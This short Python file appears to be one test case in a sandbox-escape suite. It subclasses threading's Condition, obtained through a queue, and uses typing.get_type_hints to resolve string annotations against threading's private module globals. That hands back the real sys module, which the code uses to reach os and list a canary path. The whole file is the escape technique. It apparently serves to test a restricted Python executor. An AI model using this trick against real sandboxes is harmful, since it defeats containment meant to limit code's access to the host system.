# z14_queue_condition [escape]: a queue's condition is a class of threading's, whose private names and hints are read
import queue
import typing

Condition = type(queue.Queue().not_empty)


class A(Condition):
    x: "_sys"
    y: "Thread"
    z: "_os"


def _waiters():
    pass


def solver(a, b):
    hints = typing.get_type_hints(A)
    sys = hints["x"]
    return sys.modules["os"].listdir("@CANARY@") if type(sys) is not str else str(hints)
